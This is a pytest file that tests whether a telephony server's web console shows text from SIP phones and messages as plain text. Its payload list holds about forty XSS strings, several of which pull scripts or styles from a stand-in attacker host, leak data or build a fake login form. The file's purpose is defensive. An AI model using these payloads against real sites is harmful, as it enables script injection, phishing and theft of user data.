"""S34: what a phone says of itself becomes a script in the console of whoever looks at it."""

from __future__ import annotations

from contextlib import AsyncExitStack
from pathlib import Path

import msgspec
import pytest

from support.ari import ari_client
from support.config import user
from support.phone import Phone, phone
from support.server import running_server
from support.transports import write_transports
from wire.chromium import Tab
from wire.console import console, register, say

#: Ways in which a text became a script somewhere. Each would show a dialog, ask another host or change the page.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Log in</button></form>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=//evil.example/a.ogg autoplay>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "x' onmouseover='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\N{RIGHT-TO-LEFT OVERRIDE}<script>alert(1)</script>\N{LINE SEPARATOR}alert(1)",
]

#: Elements and attributes that the console makes nowhere.
FOREIGN = "script:not([src='main.js']), iframe, object, embed, img, style, base, meta[http-equiv], video, marquee, math"
HANDLERS = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
LINKS = "[...document.querySelectorAll('a[href]')].map(e => e.getAttribute('href')).filter(h => !h.startsWith('#'))"


def name(number: int) -> str:
    return f"xss{number:02}"


async def attack(phone: Phone, payload: str) -> None:
    """Says the payload wherever a phone can say something."""
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    contact = f'"{quoted}" <{phone.contact};x="{payload.encode().hex()}">'
    await register(phone, payload, contact)
    assert (await register(phone, payload)).status == 200
    phone.answers["MESSAGE"] = 486
    say(phone, payload)
    sender = f'"{quoted}" <sip:{phone.name}@127.0.0.1>'
    lines = ["Content-Type: text/plain", f"Subject: {payload}"]
    answer = await phone.request(
        "MESSAGE", "web", sender=sender, headers=lines, body=payload, password=f"{phone.name}pw"
    )
    assert answer.status in (200, 202)


async def nothing_but_text(tab: Tab) -> None:
    assert await tab.evaluate(f"document.querySelectorAll({FOREIGN!r}).length") == 0
    assert await tab.evaluate(HANDLERS) == []
    assert await tab.evaluate(LINKS) == []
    assert tab.complaints == []


async def shows_text(tab: Tab, selector: str, text: str) -> None:
    """Waits until the text stands in the page as it was sent, letter by letter."""
    await tab.shows(f"[...document.querySelectorAll({selector!r})].some(e => e.textContent.includes({script(text)}))")


def script(text: str) -> str:
    """As a literal of JavaScript."""
    return msgspec.json.encode(text).decode()


async def test_what_phones_say_is_text(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    assert len(PAYLOADS) == 40
    users = "".join(user(name(number)) for number in range(len(PAYLOADS))) + user("web")
    config = write_transports(tmp_path / "config", pjsip=users, browsers=["ws"])
    async with AsyncExitStack() as stack:
        server = await stack.enter_async_context(running_server(config))
        tab = await stack.enter_async_context(console(tmp_path / "browser", request, server))
        ari = await stack.enter_async_context(ari_client(server.base))
        await tab.look(1280, 2400)
        await tab.go("#/phone")
        await tab.type("input[name=user]", "web")
        await tab.type("input[name=password]", "webpw")
        await tab.press("Enter")
        await tab.says("registered", ".device")
        for number, payload in enumerate(PAYLOADS):
            attacker = await stack.enter_async_context(phone(name(number), server.sip))
            await attack(attacker, payload)
            sent = await ari.ask(
                "PUT",
                f"/ari/endpoints/PJSIP/{name(number)}/sendMessage?from=pjsip:web",
                headers={"Content-Type": "application/json"},
                body=msgspec.json.encode({"body": payload}),
            )
            assert sent.status == 202

        for payload in PAYLOADS:
            await shows_text(tab, ".bubble", payload)
        await nothing_but_text(tab)

        await tab.go("#/endpoints")
        for payload in PAYLOADS:
            await shows_text(tab, ".c-agent", payload)
        await nothing_but_text(tab)

        await tab.go("#/messages")
        for payload in PAYLOADS:
            await shows_text(tab, ".message-text", payload)
            await shows_text(tab, ".message-meta .bad-text", payload)
        await nothing_but_text(tab)

        await tab.go("#/events")
        for payload in PAYLOADS:
            await tab.type(".filters input", f"textmessagereceived {name(PAYLOADS.index(payload))}")
            await shows_text(tab, ".event .what", payload)
            await tab.click(".event summary")
            await shows_text(tab, ".event pre", name(PAYLOADS.index(payload)))
        await nothing_but_text(tab)

        await tab.go("#/activity")
        await shows_text(tab, ".bar-name", "486 ")
        await nothing_but_text(tab)

        for number, payload in enumerate(PAYLOADS):
            await tab.go(f"#/endpoints/PJSIP/{name(number)}")
            await shows_text(tab, ".contact dd", payload)
            await shows_text(tab, ".message-text", payload)
            await nothing_but_text(tab)
        # Nor does an address that somebody was sent.
        for payload in PAYLOADS:
            await tab.evaluate(f"location.hash = '#/endpoints/PJSIP/' + encodeURIComponent({script(payload)})")
            await tab.says("There is no such endpoint")
            assert await tab.evaluate(f"document.querySelectorAll({FOREIGN!r}).length") == 0
        tab.complaints[:] = [said for said in tab.complaints if "404 (Not Found)" not in said]
        assert server.log_errors() == []


async def test_an_error_page_is_no_page(tmp_path: Path) -> None:
    config = write_transports(tmp_path / "config", pjsip=user("web"))
    async with running_server(config) as server, ari_client(server.base) as ari:
        for path in ("/<script>alert(1)</script>", "/ari/<script>", "/ari/endpoints/<script>/x"):
            answer = await ari.ask("GET", path)
            assert (answer.status, answer.headers["content-type"]) == (404, "application/json")
